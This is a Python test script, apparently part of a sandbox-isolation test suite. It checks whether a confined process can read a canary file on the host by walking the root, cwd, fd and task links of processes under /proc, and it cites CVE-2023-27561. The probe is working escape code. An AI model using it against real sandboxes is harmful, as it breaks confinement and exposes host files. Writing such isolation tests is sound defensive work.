#!/usr/bin/env python3
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "..", "lib"))
from atk import *
t = Test("r08-proc-root", "reach the host's tree through root, cwd, fd and task links of any process in /proc", "fs-read", 3, "CVE-2023-27561; /proc/<pid>/root")
p = t.out("secret.txt")
fd = os.open(t.outside, os.O_RDONLY)
s = t.background([sys.executable, "-c", "import time; time.sleep(25)", "host-sleeper-" + t.tok], cwd=t.outside, pass_fds=(fd,))
time.sleep(0.2)
r = t.probe("""
out,host=ARGS; n=0
def look(base,path):
    global n
    d,e=rd(base+path)
    if d and b'CANARY-' in d: os.write(1,d); escaped('read through '+base); n=1
pids=sorted({int(x) for x in os.listdir('/proc') if x.isdigit()}|{1,os.getppid(),int(host)})
for p in pids:
    tops=['/proc/%d'%p]
    try: tops+=['/proc/%d/task/%s'%(p,k) for k in os.listdir('/proc/%d/task'%p)][:4]
    except OSError: pass
    for top in tops:
        look(top+'/root',out+'/secret.txt'); look(top+'/cwd','/secret.txt'); look(top+'/cwd','/../'+os.path.basename(out)+'/secret.txt')
        try: fds=os.listdir(top+'/fd')
        except OSError: continue
        for f in fds: look(top+'/fd/'+f,'/secret.txt')
if not n: blocked('%d processes, none leads outside'%len(pids))
""", [t.outside, s.pid])
t.judge(r)
